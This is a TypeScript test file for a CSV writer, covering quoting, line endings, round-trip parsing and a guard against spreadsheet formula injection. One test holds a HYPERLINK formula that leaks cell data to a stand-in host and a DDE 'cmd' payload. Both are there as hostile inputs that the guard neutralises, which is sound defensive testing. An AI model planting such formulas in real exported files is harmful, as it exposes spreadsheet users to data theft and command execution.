import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvCellText, toCsv, type CsvCell } from "./csv";

/** RFC 4180 reader (quoted fields, doubled quotes, CR, LF and CRLF inside quotes), to read back what toCsv wrote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = "";
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") endCell();
    else if (c === "\r" && text[i + 1] === "\n") continue;
    else if (c === "\n") {
      endCell();
      rows.push(row);
      row = [];
    } else cell += c;
  }
  if (cell !== "" || row.length > 0) {
    endCell();
    rows.push(row);
  }
  return rows;
}

const line = (cells: CsvCell[]) => toCsv(["c"], [cells], { lineEnding: "\n" }).split("\n")[1];

describe("the CSV writer", () => {
  it("quotes commas, quotes, carriage returns and line feeds, and doubles quotes", () => {
    expect(
      toCsv(
        ["a", "b"],
        [
          ['say "hi"', "a,b"],
          ["two\nlines", "cr\ronly"],
        ],
        { lineEnding: "\n" },
      ),
    ).toBe('a,b\n"say ""hi""","a,b"\n"two\nlines","cr\ronly"\n');
    expect(toCsv(["a"], [["x"], ["y"]])).toBe("a\r\nx\r\ny\r\n");
  });

  it("guards every text cell a spreadsheet would run as a formula with a leading apostrophe", () => {
    expect(csvCellText('=HYPERLINK("http://evil.example/?leak="&A1,"click")')).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"click")`);
    expect(csvCellText("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
    expect(csvCellText("-2+3")).toBe("'-2+3");
    expect(csvCellText("+1")).toBe("'+1");
    expect(csvCellText("@SUM(1+1)")).toBe("'@SUM(1+1)");
    expect(csvCellText("\t=1")).toBe("'\t=1");
    expect(csvCellText("\r=1")).toBe("'\r=1");
    expect(csvCellText("\n=1")).toBe("'\n=1");
    expect(csvCellText("-")).toBe("'-");
    expect(csvCellText("-1e5")).toBe("'-1e5");
    // Quoting comes after the guard: the apostrophe is inside the quotes.
    expect(line(['=HYPERLINK("x","y")'])).toBe(`"'=HYPERLINK(""x"",""y"")"`);
  });

  it("leaves numbers, plain decimal text, booleans, dates and harmless text as they are", () => {
    expect([-12500, 3n, -7n, 0, 1.25].map(csvCellText)).toEqual(["-12500", "3", "-7", "0", "1.25"]);
    expect(["-12500", "-0.5", "42", "0"].map(csvCellText)).toEqual(["-12500", "-0.5", "42", "0"]);
    expect([true, false, null, undefined, new Date(Date.UTC(2026, 0, 2, 3, 4, 5))].map(csvCellText)).toEqual([
      "true",
      "false",
      "",
      "",
      "2026-01-02T03:04:05.000Z",
    ]);
    expect(["價格 ≥ 0", "naïve café", "emoji 📈", "a=b", "x-1", ' "quoted"'].map(csvCellText)).toEqual([
      "價格 ≥ 0",
      "naïve café",
      "emoji 📈",
      "a=b",
      "x-1",
      ' "quoted"',
    ]);
    expect(line(["價格,📈", "—"])).toBe('"價格,📈",—');
  });

  it("whatever the cells, every row reads back as the cells it was given (guarded cells with their apostrophe), one row per record", () => {
    const cell = fc.oneof(
      fc.string({ unit: "binary", maxLength: 12 }),
      fc.constantFrom("=1+1", "-2+3", "@SUM(A1)", "+", "\r", "\n", "\r\n", '"', ",", "'"),
      fc.integer().map(String),
    );
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { maxLength: 5 }),
        fc.constantFrom<"\n" | "\r\n">("\n", "\r\n"),
        (rows, lineEnding) => {
          const width = Math.max(1, ...rows.map((row) => row.length));
          const padded = rows.map((row) => [...row, ...Array<string>(width - row.length).fill("")]);
          const header = Array.from({ length: width }, (_, i) => `c${i}`);
          const read = parseCsv(toCsv(header, padded, { lineEnding }));
          expect(read).toEqual([header, ...padded.map((row) => row.map((value) => csvCellText(value)))]);
          for (const value of read.slice(1).flat()) expect(/^[=+\-@\t\r\n]/.test(value) && !/^-?\d+(\.\d+)?$/.test(value)).toBe(false);
        },
      ),
      { numRuns: 200 },
    );
  });
});
